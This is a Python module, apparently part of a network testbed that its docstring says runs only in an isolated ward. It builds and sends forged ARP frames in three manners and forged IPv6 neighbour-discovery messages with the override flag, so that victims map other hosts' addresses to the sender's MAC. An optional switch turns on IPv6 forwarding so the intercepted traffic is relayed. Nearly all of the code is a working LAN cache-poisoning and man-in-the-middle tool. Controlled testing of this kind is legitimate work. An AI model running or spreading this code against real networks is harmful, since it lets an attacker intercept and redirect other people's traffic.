"""Forged neighbours: ARP in several manners, IPv6 neighbour discovery with the override flag.

Run by `converter.testbed.hostile`, which refuses outside a ward. Bounded by rate times seconds.
In: options as JSON gave them. Source: RFC 826, RFC 4861.
"""

import socket
import struct
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

from converter.testbed import wire_ip
from converter.testbed.pacing import pace

Options = dict[str, Any]

_EVERYBODY = b"\xff" * 6


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _packet_socket() -> socket.socket:
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind(("eth0", 0))
    return s


def arp_claims(o: Options) -> None:
    """`manner`: `request` (a question that carries the claim), `gratuitous` (told to all), `reply` (to each victim).

    `pairs`: [told ip, told MAC, claimed ip] each; all of them once a round.
    """
    with _packet_socket() as s:
        mine = s.getsockname()[4][:6]
        for _ in pace(o["rate"], max(3, int(o["rate"] * o["seconds"]))):
            for told, mac, claimed in o["pairs"]:
                ip, to = socket.inet_aton(claimed), _mac(mac)
                if o["manner"] == "gratuitous":
                    frame, op, target = _EVERYBODY, 2, _EVERYBODY + ip
                else:
                    op = 1 if o["manner"] == "request" else 2
                    frame, target = to, (bytes(6) if op == 1 else to) + socket.inet_aton(told)
                head = frame + mine + b"\x08\x06\x00\x01\x08\x00\x06\x04" + struct.pack("!H", op)
                s.send(head + mine + ip + target)


def nd_claims(o: Options) -> None:
    """Neighbour discovery that says of each other's address that it is ours; `manner`: `advertise` or `solicit`.

    `pairs`: [told ip6, told MAC, claimed ip6]. With `forward` this namespace relays what comes then.
    """
    switch = Path("/proc/sys/net/ipv6/conf/all/forwarding")
    if o["forward"]:
        switch.write_text("1", encoding="ascii")
    try:
        with _packet_socket() as s:
            mine = s.getsockname()[4][:6]
            for _ in pace(o["rate"], max(3, int(o["rate"] * o["seconds"]))):
                for told, mac, claimed in o["pairs"]:
                    advertise = o["manner"] == "advertise"
                    target = claimed if advertise else told
                    packet = wire_ip.neighbour((claimed, told), target, mine, advertise=advertise)
                    with suppress(OSError):
                        s.send(_mac(mac) + mine + b"\x86\xdd" + packet)
    finally:
        if o["forward"]:
            switch.write_text("0", encoding="ascii")


TOOLS: tuple[Callable[[Options], None], ...] = (arp_claims, nd_claims)
